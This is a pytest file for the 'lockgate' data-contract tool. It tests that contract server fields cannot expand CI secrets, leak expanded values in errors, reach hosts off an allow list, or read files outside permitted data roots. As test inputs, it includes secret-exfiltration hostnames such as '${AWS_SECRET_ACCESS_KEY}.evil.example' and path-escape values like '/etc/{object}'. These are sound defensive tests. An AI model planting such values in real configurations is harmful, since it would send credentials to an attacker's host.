"""A contract's server fields cannot reach the CI job's secrets: only `LOCKGATE_*` variables
(not the credentials) expand, expanded values are never printed back, and the hosts that get
the credentials can be pinned with LOCKGATE_ALLOWED_HOSTS."""

from __future__ import annotations

import pytest
import yaml

from lockgate.connectors.base import expand_env
from lockgate.contract.loader import analyze_text
from lockgate.contract.model import Server
from lockgate.errors import ConnectionFailed, LockgateError


def _contract(server: dict) -> str:
    body = {
        "apiVersion": "v3.1.0",
        "kind": "DataContract",
        "id": "env",
        "version": "1.0.0",
        "status": "active",
        "servers": [server],
        "schema": [{"name": "t", "properties": [{"name": "a"}]}],
    }
    return yaml.safe_dump(body, sort_keys=False)


@pytest.mark.parametrize(
    "name",
    [
        "HOME",
        "AWS_SECRET_ACCESS_KEY",
        "PGPASSWORD",
        "LOCKGATE_POSTGRES_PASSWORD",
        "LOCKGATE_POSTGRES_USER",
    ],
)
def test_only_lockgate_variables_other_than_credentials_expand(monkeypatch, name):
    monkeypatch.setenv(name, "s3cr3t")
    with pytest.raises(LockgateError, match="may only use LOCKGATE_"):
        expand_env(f"${{{name}}}.evil.example")
    _, findings = analyze_text(
        _contract({"server": "pg", "type": "postgres", "host": f"${{{name}}}.evil.example"}),
        "env.odcs.yaml",
    )
    assert [f.location.line for f in findings if f.code == "unsafe-environment"] == [9]


def test_lockgate_variables_still_expand(monkeypatch):
    monkeypatch.setenv("LOCKGATE_PG_HOST", "db.internal")
    assert expand_env("${LOCKGATE_PG_HOST}") == "db.internal"
    assert expand_env("${LOCKGATE_UNSET_FOR_TEST:-fallback}") == "fallback"


def test_expanded_values_are_not_printed_back(monkeypatch):
    from lockgate.connectors.duckdb import DuckDBConnector
    from lockgate.connectors.postgres import PostgresConnector

    monkeypatch.setenv("LOCKGATE_FUZZ_PATH", "s3cr3t-value")
    for make, server in (
        (
            DuckDBConnector,
            Server("d", "duckdb", {"database": "/nonexistent/${LOCKGATE_FUZZ_PATH}.duckdb"}),
        ),
        (
            PostgresConnector,
            Server("p", "postgres", {"host": "${LOCKGATE_FUZZ_PATH}.invalid", "port": 5432}),
        ),
        (
            PostgresConnector,
            Server("p", "postgres", {"host": "127.0.0.1", "port": "${LOCKGATE_FUZZ_PATH}"}),
        ),
    ):
        with pytest.raises(ConnectionFailed) as raised:
            make(server)
        assert "s3cr3t" not in str(raised.value) and "${LOCKGATE_FUZZ_PATH}" in str(raised.value)


def test_allowed_hosts_pin_where_credentials_go(monkeypatch):
    from lockgate.connectors.postgres import PostgresConnector

    monkeypatch.setenv("LOCKGATE_ALLOWED_HOSTS", "db.internal, 127.0.0.2")
    with pytest.raises(
        ConnectionFailed, match="host 'evil.example' is not in LOCKGATE_ALLOWED_HOSTS"
    ):
        PostgresConnector(Server("p", "postgres", {"host": "evil.example", "port": 5432}))


def test_data_roots_confine_duckdb_files_and_local_paths(tmp_path, monkeypatch):
    import pandas as pd

    from lockgate.connectors.duckdb import DuckDBConnector
    from lockgate.connectors.local import LocalFilesConnector
    from tests.support.files import duckdb_with

    inside = tmp_path / "data"
    inside.mkdir()
    db = duckdb_with(inside / "w.duckdb", {"t": pd.DataFrame({"a": [1]})})
    (inside / "t.csv").write_text("a\n1\n")  # a local server with no file is a connection error
    monkeypatch.setenv("LOCKGATE_DATA_ROOTS", str(inside))
    DuckDBConnector(Server("d", "duckdb", {"database": str(db)})).close()
    LocalFilesConnector(
        Server("f", "local", {"path": str(inside / "{object}.csv"), "format": "csv"})
    ).close()
    for make, server in (
        (LocalFilesConnector, Server("f", "local", {"path": "/etc/{object}", "format": "csv"})),
        (
            LocalFilesConnector,
            Server("f", "local", {"path": str(inside / ".." / "{object}.csv"), "format": "csv"}),
        ),
        (DuckDBConnector, Server("d", "duckdb", {"database": str(tmp_path / "other.duckdb")})),
    ):
        with pytest.raises(ConnectionFailed, match="outside LOCKGATE_DATA_ROOTS"):
            make(server)
